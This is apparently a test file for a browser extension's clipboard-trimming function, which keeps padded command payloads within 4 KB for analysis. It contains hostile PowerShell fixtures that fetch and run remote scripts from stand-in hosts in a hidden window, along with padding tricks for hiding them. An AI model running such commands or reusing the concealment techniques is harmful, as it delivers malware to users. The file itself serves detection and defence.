// The background's `clipText` (extension/background/clip_text.js): what a page put on the
// clipboard, brought within the engine's 4 KB (UTF-8) so a padded command keeps its payload.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { clipText, boundClipboard } from '../../extension/background/clip_text.js';

const bytes = (s) => Buffer.byteLength(s, 'utf8');
const PAYLOAD = '-w h -c "iwr https://pad-cdn.example/c.ps1 | iex"';
// Filler that is no blank and no run of one character: invisible tag characters spelling a text,
// and prose, as a comment (`<# … #>`) PowerShell skips.
const tags = (n) => [...'the quick brown fox jumps over the lazy dog '.repeat(Math.ceil(n / 44))].slice(0, n)
  .map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
const prose = (n) => 'Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore. '
  .repeat(Math.ceil(n / 100)).slice(0, n);

test('a short command is passed unchanged', () => {
  const cmd = 'powershell -w h -c "iwr https://x.example/a | iex"' + ' '.repeat(300) + '# I am not a robot';
  assert.equal(clipText(cmd), cmd);
});

for (const [name, pad] of [['spaces', ' '], ['ideographic spaces', '\u3000'], ['Braille blanks', '\u2800'], ['tabs and NBSP', '\t\u00a0']]) {
  test(`powershell + 5,000 ${name} + the payload: the payload is read, the padding still reads as padding`, () => {
    const out = clipText('powershell' + pad.repeat(5000) + PAYLOAD);
    assert.ok(out.endsWith(PAYLOAD), out.slice(-80));
    assert.ok(bytes(out) <= 4096, `${bytes(out)} bytes`);
    // The engine reads 80 blanks between two parts as padding: the run is cut, not removed.
    assert.ok(out.length - 'powershell'.length - PAYLOAD.length >= 100);
  });
}

test('padding of one character that is no blank: cut to a run of 128, the whole command kept, no half pair', () => {
  for (const filler of ['\u{E0020}', 'x', '\u00e9', '\u20ac']) {
    const out = clipText('powershell' + filler.repeat(9000) + PAYLOAD);
    assert.equal(out, 'powershell' + filler.repeat(128) + PAYLOAD, JSON.stringify(filler));
    assert.ok(out.isWellFormed(), 'a lone surrogate at a cut');
  }
});

// Review 39 C-L1: a payload between two fillers that are neither blanks nor one character
// repeated (the MAIN world's head and tail lost it).
for (const [name, fill] of [['tag characters', tags], ['prose', prose]]) {
  test(`a payload in the middle of ${name} on both sides is kept, within 4 KB, no half pair`, () => {
    const out = clipText(`powershell <#${fill(3000)}#> ${PAYLOAD} <#${fill(3000)}#>`);
    assert.ok(out.includes(PAYLOAD), out.slice(0, 200));
    assert.ok(out.startsWith('powershell <#'));
    assert.ok(bytes(out) <= 4096, `${bytes(out)} bytes`);
    assert.ok(out.isWellFormed(), 'a lone surrogate at a cut');
  });
}

test('the middle is read by its command words: decoy words in the filler do not push the payload out', () => {
  // Each decoy block names one program; the payload's block names several.
  const decoys = Array.from({ length: 60 }, (_, i) => `${prose(90)} start ${i} `).join('');
  const out = clipText(`powershell <#${decoys}#> ${PAYLOAD} <#${decoys}#>`);
  assert.ok(out.includes(PAYLOAD), out);
  assert.ok(bytes(out) <= 4096);
});

test('a long text with no command word in its middle keeps its first and last 2 KB', () => {
  const out = clipText('a' + prose(9000).replace(/[a-z]/g, (c) => (c === 's' ? 'q' : c)) + 'z');
  assert.ok(out.startsWith('a') && out.endsWith('z'));
  assert.ok(bytes(out) > 4000 && bytes(out) <= 4096, `${bytes(out)} bytes`);
});

test('a huge text is read from its first and last 64 K units only, in bounded time', () => {
  const t0 = performance.now();
  const out = clipText('powershell ' + 'ab'.repeat(2_500_000) + PAYLOAD);
  assert.ok(out.startsWith('powershell ') && out.endsWith(PAYLOAD));
  assert.ok(bytes(out) <= 4096);
  const words = clipText('powershell ' + 'cmd iex '.repeat(40_000) + PAYLOAD);
  assert.ok(bytes(words) <= 4096 && words.endsWith(PAYLOAD));
  assert.ok(performance.now() - t0 < 2000, `${performance.now() - t0} ms`);
});

test("a snapshot's copy is bounded in place; anything else is left alone", () => {
  const snap = { clipboard: { text: 'powershell' + ' '.repeat(5000) + PAYLOAD, via: 'writeText' } };
  boundClipboard(snap);
  assert.ok(snap.clipboard.text.endsWith(PAYLOAD) && bytes(snap.clipboard.text) <= 4096);
  const none = { text: 'page' };
  boundClipboard(none);
  assert.deepEqual(none, { text: 'page' });
  const odd = { clipboard: { text: 42, via: 'x' } };
  boundClipboard(odd);
  assert.equal(odd.clipboard.text, '');
});
